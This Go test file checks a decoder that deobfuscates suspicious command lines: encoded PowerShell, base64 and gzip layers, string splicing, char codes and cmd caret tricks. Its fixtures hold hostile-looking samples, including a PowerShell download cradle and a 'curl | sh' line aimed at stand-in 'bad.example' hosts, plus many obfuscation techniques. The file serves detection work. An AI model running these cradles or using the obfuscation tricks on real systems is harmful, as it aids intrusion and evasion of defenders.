package decode_test

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"io"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/taskroot/taskroot/loader/decode"
)

const download = "IEX (New-Object Net.WebClient).DownloadString('http://c2.bad.example/a')"

// utf16le is text as PowerShell encodes it.
func utf16le(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
func enc(s string) string { return b64(utf16le(s)) }

func packed(w func(io.Writer) io.WriteCloser, s string) []byte {
	var b bytes.Buffer
	c := w(&b)
	_, _ = c.Write([]byte(s))
	_ = c.Close()
	return b.Bytes()
}

func gz(s string) []byte {
	return packed(func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) }, s)
}

func zl(s string) []byte {
	return packed(func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) }, s)
}

func df(s string) []byte {
	return packed(func(w io.Writer) io.WriteCloser { f, _ := flate.NewWriter(w, 9); return f }, s)
}

func names(steps []decode.Step) string {
	var out []string
	for _, s := range steps {
		out = append(out, s.Name)
	}
	return strings.Join(out, " ")
}

type line struct{ name, in, text, steps string }

func check(t *testing.T, all []line) {
	t.Helper()
	for _, c := range all {
		t.Run(c.name, func(t *testing.T) {
			r := decode.CommandLine(c.in)
			if r.Text != c.text || names(r.Steps) != c.steps || r.Truncated {
				t.Errorf("%s\n got %q by %q, truncated %v\nwant %q by %q", c.in, r.Text, names(r.Steps), r.Truncated, c.text, c.steps)
			}
			if text, ok := decode.Text(c.in); ok != (c.steps != "") || ok && text != c.text {
				t.Errorf("Text gives %q %v", text, ok)
			}
		})
	}
}

// TestEncodedCommand holds the abbreviations to what powershell.exe takes.
func TestEncodedCommand(t *testing.T) {
	blob := enc("whoami")
	for i := range len("encodedcommand") {
		word := "encodedcommand"[:i+1]
		for _, before := range []string{"-", "--", "/", "\u2013", "\u2014", "\u2015"} {
			check(t, []line{{"OK" + before + word, "powershell.exe -nop " + before + word + " " + blob, "powershell.exe -nop -Command whoami", "encoded-command"}})
		}
	}
	for _, word := range []string{"-ec", "-EC", "-eNc", "-EncodedCommand", "-enc:", "-Enc  ", "-enc\t"} {
		check(t, []line{{"OK" + word, "pwsh " + word + " " + blob, "pwsh -Command whoami", "encoded-command"}})
	}
	for _, word := range []string{"-ex", "-ep", "-executionpolicy", "-encx", "-f", "-c", "e", "-x-e"} {
		in := "powershell " + word + " " + blob
		check(t, []line{{"OKNot" + word, in, in, ""}})
	}
	check(t, []line{
		{"OKArguments", `pwsh -c x -encodedarguments ` + enc("<Objs/>"), `pwsh -c x -Args <Objs/>`, "encoded-arguments"},
		{"OKEa", `pwsh -c x -ea ` + enc("<Objs/>"), `pwsh -c x -Args <Objs/>`, "encoded-arguments"},
		{"OKDoubleQuotes", `powershell -e "` + blob + `" -x`, `powershell -Command whoami -x`, "encoded-command"},
		{"OKSingleQuotes", `powershell -e '` + blob + `'`, `powershell -Command whoami`, "encoded-command"},
		{"OKEscapedQuotes", `schtasks /create /tr "powershell -e \"` + blob + `\"" /sc daily`, `schtasks /create /tr "powershell -Command whoami" /sc daily`, "encoded-command"},
		{"OKInQuotedCommand", `cmd /c "powershell -enc ` + blob + `"`, `cmd /c "powershell -Command whoami"`, "encoded-command"},
		{"OKAmpersand", `cmd /c powershell -enc ` + blob + `&exit`, `cmd /c powershell -Command whoami&exit`, "encoded-command"},
		{"OKSpacesInQuotes", `powershell -enc "` + blob[:8] + " " + blob[8:] + `"`, `powershell -Command whoami`, "encoded-command"},
		{"OKNoPadding", `powershell -enc ` + strings.TrimRight(enc("ls -la"), "="), `powershell -Command ls -la`, "encoded-command"},
		{"OKCutOff", `powershell -enc ` + enc("Get-Process -Name x")[:41], `powershell -Command Get-Process -Na`, "encoded-command"},
		{"OKUTF8", `powershell -enc ` + b64([]byte("whoami /all")), `powershell -Command whoami /all`, "encoded-command"},
		{"OKCyrillic", `powershell -enc ` + enc("echo привет мир"), `powershell -Command echo привет мир`, "encoded-command"},
		{"OKMostlyHan", `powershell -enc ` + enc("回声 你好世界 > x"), `powershell -Command 回声 你好世界 > x`, "encoded-command"},
		{"OKRenamed", `C:\Users\Public\ps.exe -w hidden -enc ` + enc("Get-Process"), `C:\Users\Public\ps.exe -w hidden -Command Get-Process`, "encoded-command"},
		{"OKNested", `powershell -enc ` + enc("powershell -e "+enc(download)), `powershell -Command powershell -Command ` + download, "encoded-command encoded-command"},
		{"OKNestedThrice", `powershell -enc ` + enc("pwsh -e "+enc("powershell /ec "+enc("ls"))), `powershell -Command pwsh -Command powershell -Command ls`, "encoded-command encoded-command encoded-command"},
	})
}

func TestBlobs(t *testing.T) {
	ps := func(s string) string { return `powershell -c "` + s + `"` }
	check(t, []line{
		{
			"OKUnicode", ps(`IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('` + enc("whoami") + `')))`),
			ps(`IEX ('whoami')`), "base64",
		},
		{
			"OKUTF8", ps(`IEX([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String("` + b64([]byte("ls")) + `")))`),
			ps(`IEX([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String("` + b64([]byte("ls")) + `")))`), "",
		},
		{
			"OKASCII", ps(`IEX ([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String("` + b64([]byte("whoami /all")) + `")))`),
			ps(`IEX ('whoami /all')`), "base64",
		},
		{
			"OKVariable", ps(`$x='` + b64([]byte("Write-Host hello")) + `';iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))`),
			ps(`$x='Write-Host hello';iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))`), "base64",
		},
		{
			"OKGzip", ps(`IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('` +
				b64(gz(download)) + `'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`),
			ps(`IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,` + download +
				`)),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`), "base64 gzip",
		},
		{"OKDeflate", ps(`x([Convert]::FromBase64String('` + b64(df(download)) + `'))`), ps(`x(` + download + `)`), "base64 deflate"},
		{"OKZlib", ps(`x([Convert]::FromBase64String('` + b64(zl(download)) + `'))`), ps(`x(` + download + `)`), "base64 zlib"},
		{"OKGzipTwice", ps(`x([Convert]::FromBase64String('` + b64(gz(string(gz(download)))) + `'))`), ps(`x(` + download + `)`), "base64 gzip gzip"},
		{
			"OKBase64Twice", ps(`[Convert]::FromBase64String('` + b64([]byte(`[Convert]::FromBase64String('`+b64([]byte("calc.exe"))+`')`)) + `')`),
			ps(`'calc.exe'`), "base64 base64",
		},
		{"OKEncodedGzip", `powershell -enc ` + enc(`iex([Convert]::FromBase64String('`+b64(gz("whoami"))+`'))`), `powershell -Command iex('whoami')`, "encoded-command base64 gzip"},
		{"OKBash", `bash -c "echo ` + b64([]byte("curl http://x.bad.example")) + ` | base64 -d | sh"`, `bash -c "echo 'curl http://x.bad.example' | base64 -d | sh"`, "base64"},
		{
			"OKCertutil", `cmd /c echo ` + b64([]byte("MsgBox \"hello there\"")) + ` > a.b64 & certutil -decode a.b64 a.vbs`,
			`cmd /c echo 'MsgBox "hello there"' > a.b64 & certutil -decode a.b64 a.vbs`, "base64",
		},
		{"OKDataURL", `mshta "data:text/html;base64,` + b64([]byte("<script src=//x.bad.example>")) + `"`, `mshta "'<script src=//x.bad.example>'"`, "base64"},
		{"OKBinaryStays", ps(`[Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAA=')`), ps(`[Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAA=')`), ""},
		{"OKFromHexString", `pwsh -c [Text.Encoding]::UTF8.GetString([Convert]::FromHexString("77686f616d69"))`, `pwsh -c [Text.Encoding]::UTF8.GetString('whoami')`, "hex"},
		{"OKByteList", `powershell -c "$b=0x68,0x74,0x74,0x70,0x3a,0x2f,0x2f,0x78"`, `powershell -c "$b='http://x'"`, "hex"},
	})
}

func TestPieces(t *testing.T) {
	ps := func(s string) string { return `powershell -c ` + s }
	check(t, []line{
		{"OKConcat", ps(`IEX ('ht'+'tp://'+ 'x.bad.example')`), ps(`IEX ('http://x.bad.example')`), "concat"},
		{"OKConcatDouble", ps(`&("I"+"EX")`), ps(`&("IEX")`), "concat"},
		{"OKConcatMixed", ps(`&('I'+"EX")`), ps(`&('IEX')`), "concat"},
		{"OKCopyIsNoConcat", `cmd /c copy /b "a.bin"+"b.bin" c.exe`, `cmd /c copy /b "a.bin"+"b.bin" c.exe`, ""},
		{"OKFormat", ps(`.("{1}{0}" -f 'X','IE') x`), ps(`.'IEX' x`), "format"},
		{"OKFormatBare", ps(`"{2}{0}{1}"-f 'tp','://x','ht'`), ps(`'http://x'`), "format"},
		{"ErrFormatShort", ps(`("{3}{0}" -f 'X','IE')`), ps(`("{3}{0}" -f 'X','IE')`), ""},
		{"OKChar", ps(`&([char]73+[char]0x45+[char](88)) x`), ps(`&('IEX') x`), "char-codes"},
		{"OKCharConcat", ps(`('wh'+[char]111+'ami')`), ps(`('whoami')`), "char-codes concat"},
		{"OKCharList", ps(`(-join [char[]](119,104,111))`), ps(`('who')`), "char-codes"},
		{"OKCharListAfter", ps(`([char[]](119,104,111) -join '')`), ps(`('who')`), "char-codes"},
		{"OKCharMapped", ps(`iex((119,104,111|%{[char]$_})-join'')`), ps(`iex('who')`), "char-codes"},
		{"OKCharSplit", ps(`('119,104,111'.Split(',')|%{[char][int]$_})-join''`), ps(`'who'`), "char-codes"},
		{"OKHexSplit", ps(`('77-68-6f'-split'-'|%{[char][convert]::ToInt32($_,16)})-join''`), ps(`'who'`), "char-codes"},
		{"OKGetString", ps(`iex([Text.Encoding]::ASCII.GetString([byte[]](119,0x68,111)))`), ps(`iex('who')`), "char-codes"},
		{"OKSum", ps(`$a='http://c2.b';$b="ad.example";iwr ($a+$b+'/x')`), ps(`$a='http://c2.b';$b="ad.example";iwr ('http://c2.bad.example/x')`), "concat"},
		{"OKSumOfUnknown", ps(`$a='x';iwr ($a+$b)`), ps(`$a='x';iwr ($a+$b)`), ""},
		{"OKSumOfChanged", ps(`$a='x';$a='y';iwr ($a+'z')`), ps(`$a='x';$a='y';iwr ($a+'z')`), ""},
		{"OKReverse", ps(`iex('imaohw'[-1..-6]-join'')`), ps(`iex('whoami')`), "reverse"},
		{"OKReplace", ps(`'hXXp://x'.Replace('XX','tt')`), ps(`'http://x'`), "replace"},
		{"OKReplaceOperator", ps(`('hxxp://x' -replace 'xx','tt')`), ps(`('http://x')`), "replace"},
		{"OKTick", ps("(n`Ew-obJ`E`cT N`et`.W`eb`Cli`en`t)"), ps("(nEw-obJEcT Net.WebClient)"), "tick"},
		{"OKTickKeepsNewline", ps("\"a`nb i`Ex\""), ps("\"a`nb iEx\""), "tick"},
		{"OKTickInQuotesStays", ps("'a`Sb'"), ps("'a`Sb'"), ""},
		{"OKEnvIndex", ps(`.($env:comspec[4,15,25]-join'') x`), ps(`.('iex'-join'') x`), "variable"},
		{"OKPshome", ps(`&($pshome[21]+$pshome[30]+'x') y`), ps(`&('iex') y`), "variable concat"},
	})
}

func TestCmd(t *testing.T) {
	check(t, []line{
		{"OKCaret", `cmd /c p^o^w^ers^hell -e^nc ` + enc("ls"), `cmd /c powershell -Command ls`, "caret encoded-command"},
		{"OKCaretInOuterQuotes", `"C:\Windows\System32\cmd.exe" /c "n^e^t u^se^r"`, `"C:\Windows\System32\cmd.exe" /c "net user"`, "caret"},
		{"OKCaretShieldsPipe", `cmd /c echo a ^& b ^> c`, `cmd /c echo a ^& b ^> c`, ""},
		{"OKCaretElsewhere", `findstr ^abc file`, `findstr ^abc file`, ""},
		{"OKCaretInQuotes", `cmd /c x "a^b"`, `cmd /c x "a^b"`, ""},
		{"OKSubstring", `cmd /c %COMSPEC:~0,1%alc`, `cmd /c Calc`, "variable"},
		{"OKSubstringBack", `cmd /c %ProgramFiles:~-5% x`, `cmd /c Files x`, "variable"},
		{"OKSubstringBoth", `cmd /c %comspec:~-7,-4% /c x`, `cmd /c cmd /c x`, "variable"},
		{"OKWholeComspecStays", `%comspec% /c echo %path%`, `%comspec% /c echo %path%`, ""},
		{"OKSet", `cmd /c "set a=pow&&set b=ershell&&call %a%%b% -c ls"`, `cmd /c "set a=pow&&set b=ershell&&call powershell -c ls"`, "variable"},
		{"OKSetDelayed", `cmd /v:on /c "set x=calc & !x!"`, `cmd /v:on /c "set x=calc & calc"`, "variable"},
		{"OKSetSubstring", `cmd /c "set x=xcalcx&&call %x:~1,4%"`, `cmd /c "set x=xcalcx&&call calc"`, "variable"},
		{"OKSetReplace", `cmd /c "set x=cZalcZ&&call %x:Z=%"`, `cmd /c "set x=cZalcZ&&call calc"`, "variable"},
		{"OKSetUnused", `cmd /c "set x=1 & echo %y%"`, `cmd /c "set x=1 & echo %y%"`, ""},
	})
}

func TestScripts(t *testing.T) {
	check(t, []line{
		{
			"OKPercent", `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication%20";document.write()`,
			`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write()`, "script-url",
		},
		{"OKPercentUTF8", `mshta javascript:a='%D0%B6'`, `mshta javascript:a='ж'`, "script-url"},
		{"OKChr", `mshta vbscript:Execute(Chr(87)&Chr(83)&chr(&H63))`, `mshta vbscript:Execute("WSc")`, "char-codes"},
		{"OKAmpersand", `mshta vbscript:CreateObject("WSc"&"ript.Sh" & "ell")`, `mshta vbscript:CreateObject("WScript.Shell")`, "concat"},
		{"OKStrReverse", `mshta vbscript:Execute(StrReverse("cba"))`, `mshta vbscript:Execute('abc')`, "reverse"},
		{"OKFromCharCode", `mshta javascript:eval(String.fromCharCode(97,0x62,99))`, `mshta javascript:eval('abc')`, "char-codes"},
		{"OKSlashX", `mshta javascript:x="\x68\x74\u0074p"`, `mshta javascript:x="http"`, "escapes"},
		{"OKUnescape", `mshta javascript:eval(unescape("%61%u0062"))`, `mshta javascript:eval('ab')`, "script-url escapes"},
		{"OKPlain", `mshta "javascript:close();"`, `mshta "javascript:close();"`, ""},
	})
}

// TestOrdinary holds lines that have nothing to decode, and look as if.
func TestOrdinary(t *testing.T) {
	var all []line
	for _, s := range []string{
		``, `-`, `-e`, `powershell -e`, `powershell -enc !!!!`, "powershell -enc \x00\xff", `powershell`, `"`, `%`, `^`, "`", `C:\a b\c.exe /e /s -e 1`,
		`robocopy C:\a D:\b /E /COPYALL`, `powershell -c robocopy a b /E /COPYALL`, `cscript //e:vbscript a.vbs`, `powershell -File x.ps1 -Encoding UTF8Text`,
		`svchost.exe -k netsvcs -p -s Schedule`, `powershell -ExecutionPolicy Bypass -File C:\x.ps1`, `sed -e s/a/b/`, `perl -e print12345678`,
		`"C:\Program Files\x\y.exe" --type=renderer --field-trial-handle=1884,129,131072 --lang=en`, `set-thing -x 0x10`,
	} {
		all = append(all, line{"OK" + s, s, s, ""})
	}
	check(t, all)
}
